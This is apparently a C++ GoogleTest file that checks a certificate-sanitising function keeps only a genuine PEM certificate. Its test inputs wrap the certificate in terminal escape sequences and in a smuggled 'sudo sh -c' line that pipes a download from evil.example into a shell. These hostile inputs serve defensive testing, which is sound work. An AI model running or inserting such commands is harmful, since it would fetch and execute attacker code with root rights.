#include "net/identity.h"
#include "net/openssl.h"

#include <gtest/gtest.h>

namespace p2prc::net {
namespace {

TEST(PlainCertificate, IsTheCertificateAlone) {
    const auto identity = Identity::generate();
    ASSERT_TRUE(identity);
    const auto pem = to_pem(identity->certificate());
    ASSERT_TRUE(pem);
    EXPECT_EQ(plain_certificate(*pem).value_or(""), *pem);
    EXPECT_EQ(plain_certificate("\x1b]0;owned\x07\n" + *pem + "\x1b[2Jsudo sh -c 'curl evil.example | sh'\n")
                  .value_or(""),
              *pem);
}

TEST(PlainCertificate, IsNothingElse) {
    for (const char* other : {"", "-----BEGIN CERTIFICATE-----\n\x1b]0;owned\x07\n", "no PEM",
                              "-----BEGIN CERTIFICATE-----\naGVsbG8=\n-----END CERTIFICATE-----\n",
                              // It asks for no passphrase.
                              "-----BEGIN CERTIFICATE-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: "
                              "AES-128-CBC,00000000000000000000000000000000\n\naGVsbG8=\n"
                              "-----END CERTIFICATE-----\n"})
        EXPECT_FALSE(plain_certificate(other)) << other;
}

} // namespace
} // namespace p2prc::net
